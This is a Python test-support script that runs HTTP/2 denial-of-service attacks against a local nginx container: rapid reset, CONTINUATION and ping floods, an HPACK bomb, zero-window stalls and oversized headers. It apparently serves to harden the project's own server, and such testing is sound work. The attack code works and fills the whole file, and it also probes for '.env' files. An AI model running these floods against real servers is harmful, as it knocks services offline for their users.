"""Attacks on HTTP/2: frames (RFC 9113) that cost the server more than the client.

    python3 -m tests.support.http2_attacks --kind rapid-reset --connections 4 --seconds 10

A client that is closed comes again. Prints how often they came, and the megabytes that they sent.
"""

from __future__ import annotations

import argparse
import contextlib
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from functools import partial
from itertools import count, cycle, islice, repeat

from hpack import Encoder  # type: ignore[import-untyped, unused-ignore]

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 2, 3, 4, 6, 9
END_STREAM, END_HEADERS, INITIAL_WINDOW = 1, 4, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STREAMS = 128  # at a time; nginx's own limit
ALLOWED = 32  # the image's limit
BATCH = 1 << 15  # bytes of a connection at a time


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def head(path: str = "/", method: str = "GET") -> bytes:
    """The headers of a request, which change no state of HPACK."""
    fields = {":method": method, ":scheme": "https", ":path": path, ":authority": "shop.example"}
    fields["x-forwarded-for"] = "203.0.113.9"  # a public address, where the test is trusted
    return bytes(Encoder().encode([(*field, True) for field in fields.items()], huffman=False))


def value(size: int) -> bytes:
    """A long text in HPACK."""
    return bytes([0x7F, (size - 0x7F) & 0x7F | 0x80, (size - 0x7F) >> 7]) + b"x" * size


def requests(path: str = "/", method: str = "GET", end: int = END_STREAM) -> Iterator[bytes]:
    """On all streams that nginx allows."""
    asked = head(path, method)
    return (frame(HEADERS, END_HEADERS | end, n, asked) for n in range(1, 2 * STREAMS, 2))


def no_window(path: str) -> Iterator[bytes]:
    """Responses that the client does not take."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 0))
    yield from requests(path)


def rapid_reset() -> Iterator[bytes]:
    asked = head()
    for stream in count(1, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, asked)
        yield frame(RESET, 0, stream, bytes(4))


def hpack_bomb() -> Iterator[bytes]:
    """A field of 4,000 bytes in the table, and then a byte for each copy."""
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, head() + b"\x40\x01x" + value(4000))
    again = head() + b"\xbe" * 16_000
    yield from (frame(HEADERS, END_HEADERS | END_STREAM, n, again) for n in count(3, 2))


def large_headers(*heads: bytes) -> Iterator[bytes]:
    """120 KB of headers on each stream, a byte for each copy of a field; no response is taken."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 0))
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, head() + b"\x40\x01x" + value(4000))
    for n, asked in zip(range(3, 2 * ALLOWED, 2), cycle(heads)):
        yield frame(HEADERS, END_HEADERS | END_STREAM, n, asked + b"\xbe" * 30)


def without_end(first: bytes, then: bytes) -> Iterator[bytes]:
    yield first
    yield from repeat(then)


def continuation(field: bytes) -> Iterator[bytes]:
    return without_end(frame(HEADERS, 0, 1, head()), frame(CONTINUATION, 0, 1, field))


def priority() -> Iterator[bytes]:
    """Streams that depend on one another, and do not exist."""
    return (frame(PRIORITY, 0, n, struct.pack(">IB", max(n - 2, 0), 255)) for n in count(1, 2))


# What nginx refuses before it counts requests.
REFUSED = (
    head("//a"),
    head("/up"),
    head("/static/.env"),
    head("/.docker-flask/html"),
    head("/", "POST") + b"\x10\x0econtent-length\x0a9999999999",
)

ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid-reset": rapid_reset,
    "continuation": partial(continuation, b"\x10\x01x" + value(4000)),
    "empty-continuation": partial(continuation, b""),
    "empty-data": lambda: without_end(
        frame(HEADERS, END_HEADERS, 1, head("/", "POST")), frame(DATA, 0, 1)
    ),
    "settings": lambda: repeat(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 65535))),
    "ping": lambda: repeat(frame(PING, 0, 0, bytes(8))),
    "priority": priority,
    "hpack-bomb": hpack_bomb,
    "large-headers": partial(large_headers, head()),
    "large-headers-refused": partial(large_headers, *REFUSED),
    "no-window": partial(no_window, "/"),
    "no-window-static": partial(no_window, "/static/large.bin"),
    "get-without-end": partial(requests, end=0),
    "post-without-end": partial(requests, method="POST", end=0),
}


class Attacker:
    """A connection, again and again."""

    def __init__(self, kind: str) -> None:
        self._kind, self._rest = kind, b""
        self._client: ssl.SSLSocket | None = None
        self.connections = self.sent = 0

    def step(self) -> None:
        """Send as much as the server takes, and drop what it answers."""
        try:
            client = self._client or self._connect()
            with contextlib.suppress(ssl.SSLWantReadError):
                while client.recv(1 << 16):
                    pass
                raise ConnectionError
            with contextlib.suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError):
                while len(self._rest) < BATCH and (more := b"".join(islice(self._frames, 100))):
                    self._rest += more
                sent = client.send(self._rest) if self._rest else 0
                self._rest, self.sent = self._rest[sent:], self.sent + sent
        except OSError:
            if self._client:
                self._client.close()
            self._client = None

    def _connect(self) -> ssl.SSLSocket:
        context = ssl._create_unverified_context()  # noqa: S323  # of the test's own container
        context.set_alpn_protocols(["h2"])
        plain = socket.create_connection(("127.0.0.1", 443), timeout=5)
        self._client = context.wrap_socket(plain, server_hostname="shop.example")
        self._client.setblocking(False)
        self._frames, self._rest = ATTACKS[self._kind](), PREFACE + frame(SETTINGS)
        self.connections += 1
        return self._client


def main() -> None:
    """Run as the arguments say."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--kind", choices=ATTACKS, required=True)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--seconds", type=float, default=10)
    given = parser.parse_args()
    attackers = [Attacker(given.kind) for _ in range(given.connections)]
    until = time.monotonic() + given.seconds
    while time.monotonic() < until:
        before = sum(each.sent for each in attackers)
        for attacker in attackers:
            attacker.step()
        if before == sum(each.sent for each in attackers):
            time.sleep(0.01)
    times, sent = sum(each.connections for each in attackers), sum(each.sent for each in attackers)
    print(f"{times} connections, {sent / 1e6:.2f} MB")


if __name__ == "__main__":
    main()
